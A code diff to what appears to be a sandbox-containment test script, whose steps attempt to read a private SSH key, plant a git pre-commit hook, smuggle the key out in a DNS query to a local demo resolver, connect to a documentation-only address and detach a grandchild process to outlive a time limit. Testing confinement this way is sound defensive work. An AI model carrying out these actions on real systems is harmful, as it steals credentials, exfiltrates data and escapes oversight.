@@ -115,8 +115,11 @@ def misbehave() -> None:
         header, tail = b"\x13\x37\x01\x00\x00\x01" + bytes(6), b"\x04evil\x04test\x00\x00\x01\x00\x01"
         question = header + bytes([len(label)]) + label + tail
         with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as resolver:
-            resolver.sendto(question, ("127.0.0.1", int(os.environ["DEMO_DNS"])))
-        return "sent"
+            resolver.settimeout(3)
+            resolver.connect(("127.0.0.1", int(os.environ["DEMO_DNS"])))
+            resolver.send(question)
+            resolver.recv(512)
+        return "answered"
 
     attempt("read ~/.ssh/id_ed25519", read_key)
     attempt("plant .git/hooks/pre-commit", plant_hook)
@@ -125,20 +128,31 @@ def misbehave() -> None:
     attempt("send the key out in a DNS question", ask_resolver)
 
 
+def dial() -> None:
+    """An address beyond the machine; one for documentation (RFC 5737), so that nobody is there to be called."""
+
+    def call() -> str:
+        with socket.create_connection(("192.0.2.1", 443), timeout=3):
+            return "connected"
+
+    attempt("call 192.0.2.1", call)
+
+
 def linger() -> None:
     """Detach twice, so that no parent and no session is left, and write a heartbeat for half a minute."""
     if os.fork() == 0:
         os.setsid()
         if os.fork() == 0:
-            for beat in range(300):
-                Path("heartbeat").write_text(str(beat))
-                time.sleep(0.1)
+            with Path("heartbeat").open("w") as heartbeat:
+                for _ in range(300):
+                    print(".", end="", file=heartbeat, flush=True)
+                    time.sleep(0.1)
         os._exit(0)
     tell("left a grandchild behind; now waiting past the limit")
     time.sleep(30)
 
 
 if __name__ == "__main__":
-    steps = {"work": work, "misbehave": misbehave, "linger": linger}
+    steps = {"work": work, "misbehave": misbehave, "dial": dial, "linger": linger}
     for step in sys.argv[1:]:
         steps[step]()
